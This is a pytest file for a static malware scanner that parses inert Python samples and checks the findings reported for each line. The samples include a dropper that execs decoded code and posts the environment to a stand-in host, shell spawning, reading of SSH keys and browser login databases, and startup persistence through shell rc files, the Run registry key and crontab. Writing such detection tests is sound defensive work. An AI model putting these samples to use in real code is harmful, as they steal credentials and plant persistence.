"""Python scanning on inert code written here: it is parsed, never run."""

from __future__ import annotations

import warnings

from malgraph.analysis.languages import scan_code
from malgraph.analysis.scanning import CodeScan
from malgraph.core.code import Finding, Import

# Would print "hi" and post the environment somewhere that does not exist.
DROPPER = """\
import base64
import os
import requests

exec(base64.b64decode('cHJpbnQoImhpIik='))
data = dict(os.environ)
requests.post('https://collect.example.invalid/x', data=data)
"""


def scan(text: str, path: str = "pkg/setup.py") -> CodeScan:
    return scan_code(path, text, "python")


def found(result: CodeScan) -> set[tuple[str, str, int]]:
    return {(f.category, f.api, f.line) for f in result.findings}


def test_dropper_decodes_evaluates_reads_env_and_posts_on_the_right_lines() -> None:
    result = scan(DROPPER)
    assert found(result) == {
        ("decode", "base64.b64decode", 5),
        ("eval", "exec", 5),
        ("env", "os.environ", 6),
        ("network", "requests.post", 7),
    }
    assert [(i.module, i.kind, i.line) for i in result.imports] == [
        ("base64", "import", 1),
        ("os", "import", 2),
        ("requests", "import", 3),
    ]
    post = next(f for f in result.findings if f.category == "network")
    assert post == Finding(
        "network",
        "requests.post",
        "pkg/setup.py",
        7,
        "requests.post('https://collect.example.invalid/x', data=data)",
    )
    assert result.problems == ()


def test_aliases_resolve_to_the_real_api() -> None:
    text = """\
import subprocess as sp
from os import system as s
from os import *
import os.path as osp
o = __import__('os')
e = eval
sp.Popen(['true'])
s('true')
popen('true')
o.system('true')
e('1')
getattr(os, 'system')('true')
__builtins__.exec('1')
"""
    assert found(scan(text)) == {
        ("dynamic-import", "__import__", 5),
        ("eval", "eval", 6),  # a reference is enough
        ("process", "subprocess.Popen", 7),
        ("process", "os.system", 8),
        ("process", "os.popen", 9),
        ("process", "os.system", 10),
        ("eval", "eval", 11),
        ("process", "os.system", 12),
        ("eval", "builtins.exec", 13),
    }


def test_names_that_only_look_alike_are_not_findings() -> None:
    text = """\
import re
from re import compile
pattern = compile('x')
re.compile('y')
def run(system):
    return system.exec_module
'''A docstring naming ~/.ssh/id_rsa describes, it does not read.'''
"""
    assert scan(text).findings == ()


def test_imports_plain_from_relative_and_dynamic() -> None:
    text = """\
import a.b as c, d
from x.y import z
from . import sibling
from ..pkg.mod import thing
import importlib
m = importlib.import_module('plugin' + 's')
n = __import__(name)
"""
    result = scan(text)
    assert [(i.module, i.kind, i.relative, i.line) for i in result.imports] == [
        ("a.b", "import", False, 1),
        ("d", "import", False, 1),
        ("x.y", "from", False, 2),
        (".", "from", True, 3),
        ("..pkg.mod", "from", True, 4),
        ("importlib", "import", False, 5),
        ("plugins", "dynamic", False, 6),
    ]
    # Both dynamic imports are findings; only the literal one says which module.
    assert found(result) == {
        ("dynamic-import", "importlib.import_module", 6),
        ("dynamic-import", "__import__", 7),
    }
    assert all(isinstance(i, Import) and i.file == "pkg/setup.py" for i in result.imports)


def test_process_network_decode_and_env_variants() -> None:
    text = """\
import os, socket, subprocess, urllib.request, marshal, zlib, codecs, httpx, pty
os.execv('/bin/sh', ['sh'])
os.spawnlp(os.P_NOWAIT, 'sh', 'sh')
pty.spawn('/bin/sh')
subprocess.run('id', shell=True, stdout=subprocess.PIPE)
s = socket.socket()
urllib.request.urlopen('http://example.invalid')
httpx.get('http://example.invalid')
marshal.loads(zlib.decompress(b'x'))
codecs.decode('uryyb', 'rot13')
bytes.fromhex('6869')
home = os.getenv('HOME') or os.environ['HOME']
'68'.decode('hex')
"""
    assert found(scan(text)) == {
        ("process", "os.execv", 2),
        ("process", "os.spawnlp", 3),
        ("process", "pty.spawn", 4),
        ("process", "subprocess.run", 5),
        ("network", "socket.socket", 6),
        ("network", "urllib.request.urlopen", 7),
        ("network", "httpx.get", 8),
        ("decode", "marshal.loads", 9),
        ("decode", "zlib.decompress", 9),
        ("decode", "codecs.decode", 10),
        ("decode", "bytes.fromhex", 11),
        ("env", "os.getenv", 12),
        ("env", "os.environ", 12),
        ("decode", "str.decode", 13),
    }


def test_credentials_and_startup_writes() -> None:
    run_key = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"  # as written in Python
    text = f"""\
import os, shutil
from pathlib import Path
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Login Data')
rc = os.path.expanduser('~/.bashrc')
with open(rc, 'a') as f:
    f.write('alias ls=true')
open(os.path.expanduser('~/.profile')).read()
shutil.copy('agent.plist', os.path.expanduser('~/Library/LaunchAgents/x.plist'))
(Path.home() / '.zshrc').write_text('true')
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, '{run_key}')
os.system('(crontab -l; echo "@reboot true") | crontab -')
"""
    result = found(scan(text))
    assert {f for f in result if f[0] in ("credentials", "startup-write")} == {
        ("credentials", ".ssh/", 3),
        ("credentials", "id_rsa", 3),
        ("credentials", "Login Data", 4),
        ("startup-write", ".bashrc", 6),  # through the variable `rc`
        ("startup-write", "LaunchAgents", 9),
        ("startup-write", ".zshrc", 10),
        ("startup-write", "CurrentVersion\\Run", 12),
        ("startup-write", "crontab", 13),
    }
    # Reading ~/.profile (line 8) is not a write.
    assert not any(f[2] == 8 for f in result)


def test_python2_falls_back_to_tree_sitter_with_a_problem() -> None:
    text = """\
import os, urllib2
import subprocess as sp
print "installing"
exec "x = 1" in {}
os.system("id")
sp.call(["id"])
urllib2.urlopen("http://example.invalid/" + open(os.path.expanduser("~/.npmrc")).read())
"""
    result = scan(text, "old/setup.py")
    (problem,) = result.problems
    assert problem == "old/setup.py: python syntax error at line 3, read with tree-sitter"
    assert [(i.module, i.line) for i in result.imports] == [
        ("os", 1),
        ("urllib2", 1),
        ("subprocess", 2),
    ]
    assert found(result) == {
        ("eval", "exec", 4),
        ("process", "os.system", 5),
        ("process", "subprocess.call", 6),
        ("network", "urllib2.urlopen", 7),
        ("credentials", ".npmrc", 7),
    }


def test_broken_and_hostile_text_never_raises() -> None:
    cases = {
        "import os\nos.system('x'\n": "syntax error at line 2",  # unclosed call
        "import os\x00\nos.system('x')\n": "null bytes",
        "import os\n" + "(" * 300 + ")" * 300: "syntax error at line 2",  # too many parentheses
        "import os\n" + "x = " + "-" * 50_000 + "1\n": "nested too deeply",
    }
    for text, problem in cases.items():
        result = scan(text)
        assert [i.module for i in result.imports] == ["os"]
        (reported,) = result.problems
        assert problem in reported and reported.endswith("read with tree-sitter")
    mac = scan("\r".join(["import os", "os.system('x')"]))  # old Mac line ends
    assert found(mac) == {("process", "os.system", 2)} and mac.problems == ()


def test_parsing_warnings_stay_quiet() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # any warning would raise here
        result = scan('import os\nos.system("grep \\d x")\n')
    assert found(result) == {("process", "os.system", 2)}
    assert result.problems == ()  # read by ast, not by the fallback


def test_files_without_any_trigger_are_not_parsed_and_give_nothing() -> None:
    assert scan("def add(a, b):\n    return a + b\n") == CodeScan((), (), ())


def test_snippets_are_trimmed_around_the_call_on_long_lines() -> None:
    text = "import os\nx = [" + "1, " * 300 + "os.system('id')]\n"
    (finding,) = scan(text).findings
    assert finding.api == "os.system" and len(finding.snippet) <= 200
    assert "os.system('id')" in finding.snippet
